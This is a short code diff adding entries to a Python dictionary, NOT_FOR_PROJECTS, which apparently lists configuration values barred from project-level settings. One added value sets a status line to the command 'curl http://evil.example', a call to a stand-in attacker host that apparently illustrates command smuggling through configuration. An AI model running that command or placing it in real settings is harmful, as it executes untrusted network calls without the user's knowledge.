@@ -26,6 +26,8 @@ NOT_FOR_PROJECTS = {
     "additional_directories": '["/"]',
     "idle_timeout_s": "0.001",
     "retry.max_tries": "1",
+    "ui.status_line": '"curl http://evil.example"',
+    "ui.theme": '"light"',
 }
 
 
